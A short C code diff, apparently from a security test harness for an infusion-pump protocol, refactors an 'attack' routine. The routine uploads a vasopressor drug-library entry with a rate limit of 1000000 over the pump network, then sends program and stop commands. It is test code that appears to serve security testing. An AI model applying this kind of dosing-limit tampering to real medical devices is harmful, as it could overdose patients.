@@ -16,7 +16,6 @@ enum {
 
 static void run(struct attack *attack)
 {
-    static const uint8_t drug_sizes[3] = {1, 1, 4};
     struct attack_state state;
     attack_therapy(attack, DRUG, 2000);
     uint32_t answered = 0;
@@ -25,10 +24,7 @@ static void run(struct attack *attack)
         struct pump_frame reply;
         attack_connect(attack, PUMP_LINE_NET, &line);
         struct pump_frame library =
-            attack_frame(PUMP_CMD_LIB_PUT, drug_sizes,
-                         (const uint32_t[3]){DRUG, PUMP_THERAPY_VASOPRESSOR, RATE_ULH});
-        pump_put32(library.payload + library.n, 1000000);
-        library.n = (uint16_t)(library.n + 4);
+            attack_library(DRUG, PUMP_THERAPY_VASOPRESSOR, RATE_ULH, 1000000);
         struct pump_frame program = attack_program(DRUG, RATE_ULH);
         struct pump_frame stop = {.type = PUMP_CMD_STOP};
         answered += attack_ask(attack, &line, &library, ASK_MS, &reply) != 0;
